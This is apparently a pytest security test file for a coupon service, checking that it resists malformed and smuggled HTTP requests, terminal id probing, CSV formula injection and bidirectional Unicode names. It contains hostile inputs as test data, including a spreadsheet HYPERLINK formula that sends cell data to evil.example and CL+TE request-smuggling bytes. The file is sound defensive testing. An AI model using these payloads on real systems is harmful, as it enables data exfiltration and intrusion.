"""What the service gives away to whoever reaches its port: undecodable credentials, terminal ids
to enumerate, parser errors that quote the request, formulas in CSV cells, cacheable national
ids, its software version, its metrics, and whom its logs name."""

from __future__ import annotations

import asyncio
import io
import json
from collections.abc import Awaitable, Callable, Iterator
from typing import Any

import asyncpg
import orjson
import pytest
import structlog

from coupon import csvsafe, logs
from coupon.api.keys import KEYRING
from coupon.app import create_app
from coupon.config import Settings
from tests.integration.terminal import Client, Terminal, make_terminal, make_world
from tests.integration.test_cli import coupon

SECRET_MARK = b"Zm9yZ2VkLXNlY3JldA"  # what an attacker sends: no answer may quote it


async def raw_request(client: Client, data: bytes) -> tuple[int, dict[str, str], bytes]:
    """Send bytes as they are; the status, headers and body of the answer."""
    reader, writer = await asyncio.open_connection(client.server.host, client.server.port)
    try:
        writer.write(data)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()
    head, _, body = answer.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = dict(line.split(": ", 1) for line in lines[1:])
    return int(lines[0].split()[1]), headers, body


@pytest.fixture
def json_logs() -> Iterator[io.BytesIO]:
    out = io.BytesIO()
    logs.configure("info", stream=out, cache=False)
    yield out
    structlog.reset_defaults()


def request_lines(out: io.BytesIO) -> list[dict[str, Any]]:
    lines = [json.loads(x) for x in out.getvalue().decode().splitlines() if x.startswith("{")]
    return [x for x in lines if x["event"] == "request"]


async def test_undecodable_authorization_is_401(client: Client) -> None:
    for value in (b"Bearer caf\xe9", b"Bearer \xff\xfe" + SECRET_MARK, b"Bearer cpn_\x80x"):
        status, _, body = await raw_request(
            client,
            b"GET /v1/admin/tranches HTTP/1.1\r\nHost: x\r\nAuthorization: "
            + value
            + b"\r\nConnection: close\r\n\r\n",
        )
        assert status == 401, body
        assert orjson.loads(body)["error"]["code"] == "unauthorized"
    status, _, _ = await raw_request(
        client,
        b"GET /v1/stats/stream?access_token=caf%E9 HTTP/1.1\r\nHost: x\r\n"
        b"Connection: close\r\n\r\n",
    )
    assert status == 401


async def test_unknown_terminals_look_like_bad_signatures_and_are_remembered(
    client: Client, operator: dict[str, str], conn: asyncpg.Connection
) -> None:
    t = await make_terminal(client, operator)
    wrong = await Terminal(client, t.terminal_id, "00" * 32, 0).balance("0084575948")
    next_id = t.terminal_id + 1
    ghost = await Terminal(client, next_id, "00" * 32, 0).balance("0084575948")
    assert wrong.status == ghost.status == 401
    assert wrong.body == ghost.body and ghost.body["error"]["code"] == "bad_signature"
    # a terminal made behind this process's back under the id just probed, without saying so:
    # still unknown here (no query was made for it)
    secret = "cd" * 32
    box = client.app[KEYRING].seal(next_id, secret)
    await conn.execute(
        "INSERT INTO terminals (id, merchant_id, secret_box) OVERRIDING SYSTEM VALUE "
        "VALUES ($1, $2, $3)",
        next_id,
        t.merchant_id,
        box,
    )
    late = Terminal(client, next_id, secret, t.merchant_id)
    assert (await late.balance("0084575948")).status == 401
    # once a change of secrets is announced, every process reads them again within a second
    await conn.fetchval("SELECT nextval('terminal_key_changes_seq')")
    await asyncio.sleep(1)
    assert (await late.balance("0084575948")).status == 404


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"GET /healthz HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
        + SECRET_MARK
        + b"A" * 100_000
        + b"\r\n\r\n",
        b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
        b"Transfer-Encoding: chunked\r\nX-Nonce: " + SECRET_MARK + b"\r\n\r\n0\r\n\r\n",
        b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n"
        b"Content-Length: 3" + SECRET_MARK + b"\r\n\r\n{}",
        b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
        + b"".join(b"X-H%d: %s\r\n" % (i, SECRET_MARK) for i in range(10_000))
        + b"\r\n",
        b"GET /healthz HTTP/1.1\r\nHost: x\r\nBad Header" + SECRET_MARK + b": y\r\n\r\n",
    ],
    ids=["100KB-header", "CL+TE", "duplicate-CL", "10000-headers", "bad-name"],
)
async def test_parser_errors_answer_the_error_body_and_quote_nothing(
    client: Client, request_bytes: bytes
) -> None:
    status, headers, body = await raw_request(client, request_bytes)
    assert 400 <= status < 500
    assert headers["Content-Type"].startswith("application/json")
    assert headers["Server"] == "coupon"
    error = orjson.loads(body)["error"]
    assert set(error) == {"code", "message", "details"} and error["details"] is None
    assert SECRET_MARK not in body and b"aiohttp" not in body


async def test_csv_cells_that_start_a_formula_are_inert(
    client: Client,
    operator: dict[str, str],
    auditor: dict[str, str],
    dsn: str,
    conn: asyncpg.Connection,
) -> None:
    world = await make_world(client, operator, n=2)
    nid = next(iter(world.credit))
    for rid in ("-2-3", "plain-1"):
        assert (await world.terminal.redeem(nid, 1000, request_id=rid)).status == 201
    resp = await client.get("/v1/ledger.csv", headers=auditor)
    rows = (await resp.text()).splitlines()
    assert any(",'-2-3," in row for row in rows) and any(",plain-1," in row for row in rows)
    # settlement: a store named like a formula
    name = '=HYPERLINK("http://evil.example/?"&A1,"pay")'
    await conn.execute(
        "UPDATE merchants SET name = $1 WHERE id = $2", name, world.terminal.merchant_id
    )
    day = await conn.fetchval("SELECT (now() AT TIME ZONE 'Asia/Tehran')::date::text")
    code, out, _ = await coupon(dsn, "report", "settlement", "--date", day)
    assert code == 0 and "'=HYPERLINK(" in out and ",=HYPERLINK" not in out
    # the Python rule and the SQL one agree
    samples = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", "", "1-2", "'=x", " =x"]
    for value in samples:
        expr = csvsafe.sql_cell("$1::text")
        assert await conn.fetchval(f"SELECT {expr}", value) == csvsafe.cell(value), value


async def test_names_refuse_bidirectional_controls(
    client: Client, operator: dict[str, str]
) -> None:
    for control in ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2069"):
        resp = await client.post(
            "/v1/admin/merchants",
            json={"name": f"Store {control}evil", "province": "IR-15"},
            headers=operator,
        )
        assert resp.status == 422, control
    resp = await client.post(
        "/v1/admin/merchants", json={"name": "فروشگاه Store", "province": "IR-15"}, headers=operator
    )
    assert resp.status == 201


async def test_answers_are_not_cached_and_do_not_name_the_software(
    client: Client, operator: dict[str, str], auditor: dict[str, str]
) -> None:
    world = await make_world(client, operator, n=2)
    nid = next(iter(world.credit))
    answers = [
        await world.terminal.balance(nid),
        await world.terminal.redeem(nid, 1000),
        await world.terminal.balance("0000000000"),
    ]
    headers = [answer.headers for answer in answers]
    for path in ("/v1/ledger", "/v1/ledger.csv", "/healthz", "/nowhere"):
        resp = await client.get(path, headers=auditor)
        await resp.read()
        headers.append(dict(resp.headers))
    for each in headers:
        assert each["Cache-Control"] == "no-store"
        assert each["Server"] == "coupon"


async def test_metrics_are_served_to_configured_networks_or_the_token(
    settings: Settings, dsn: str, aiohttp_client: Callable[..., Awaitable[Client]]
) -> None:
    local = await aiohttp_client(create_app(settings, dsn))
    assert (await local.get("/metrics")).status == 200  # loopback, by default
    closed = settings.model_copy(update={"metrics_networks": "10.0.0.0/8"})
    remote = await aiohttp_client(create_app(closed, dsn))
    resp = await remote.get("/metrics")
    assert resp.status == 403 and (await resp.json())["error"]["code"] == "forbidden"
    with_token = closed.model_copy(update={"metrics_token": "scrape-me-0123456789"})
    scraper = await aiohttp_client(create_app(with_token, dsn))
    assert (await scraper.get("/metrics")).status == 403
    bad = {"Authorization": "Bearer scrape-me-wrong"}
    assert (await scraper.get("/metrics", headers=bad)).status == 403
    good = {"Authorization": "Bearer scrape-me-0123456789"}
    assert (await scraper.get("/metrics", headers=good)).status == 200


async def test_request_logs_name_the_client_and_a_trusted_proxys_client_only(
    json_logs: io.BytesIO,
    settings: Settings,
    dsn: str,
    aiohttp_client: Callable[..., Awaitable[Client]],
) -> None:
    forwarded = {"X-Forwarded-For": "198.51.100.9, 203.0.113.7"}
    direct = await aiohttp_client(create_app(settings, dsn))
    await direct.get("/healthz", headers=forwarded)
    proxied = settings.model_copy(update={"trusted_proxies": "127.0.0.1,10.0.0.0/8"})
    behind = await aiohttp_client(create_app(proxied, dsn))
    await behind.get("/healthz", headers=forwarded)
    await behind.get("/healthz", headers={"X-Forwarded-For": "10.1.1.1, 198.51.100.9, 10.2.2.2"})
    await behind.get("/healthz", headers={"X-Forwarded-For": "not-an-address"})
    await behind.get("/healthz")
    clients = [line["client"] for line in request_lines(json_logs)]
    assert clients == ["127.0.0.1", "203.0.113.7", "198.51.100.9", "127.0.0.1", "127.0.0.1"]
